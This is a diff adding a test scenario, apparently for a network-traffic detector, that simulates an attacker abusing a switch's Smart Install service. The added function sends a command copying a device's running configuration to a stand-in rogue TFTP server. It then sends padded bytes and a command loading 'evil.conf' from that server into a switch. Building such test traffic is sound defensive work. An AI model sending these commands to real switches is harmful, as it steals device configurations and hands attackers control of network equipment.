@@ -223,6 +223,26 @@ def bw06_copy_in_other_words(wire: Wire) -> None:
         tcp.close()
 
 
+@scenario(
+    "BW06",
+    "malicious",
+    **both(
+        command(file="10.0.1.8.conf", device="10.0.1.8"),
+        command(file="evil.conf"),
+        orders=((3, "10.0.1.8"), (3, SWITCH)),
+    ),  # type: ignore[arg-type]
+)
+def bw06_version_zero(wire: Wire) -> None:
+    """Public tools write 0 for the version: a copy to a server, and, behind bytes of no message, one from there."""
+    tcp = Tcp(wire, ATTACKER, 50786, "10.0.1.8", smi.PORT)
+    tcp.send(smi.message(smi.PROBE, struct.pack(">II", 1, 0), version=0))
+    tcp.send(smi.copy(f"copy system:running-config tftp://{ROGUE}/10.0.1.8.conf", version=0))
+    tcp.close()
+    tcp = Tcp(wire, ATTACKER, 50787, SWITCH, smi.PORT)
+    tcp.send(b"\xff" * 21 + smi.copy(f"copy tftp://{ROGUE}/evil.conf system:running-config", version=0))
+    tcp.close()
+
+
 @scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=((6, SWITCH),)))  # type: ignore[arg-type]
 def bw06_client_calls_director(wire: Wire) -> None:
     """A switch connects to what it takes for its director, which answers with a command."""
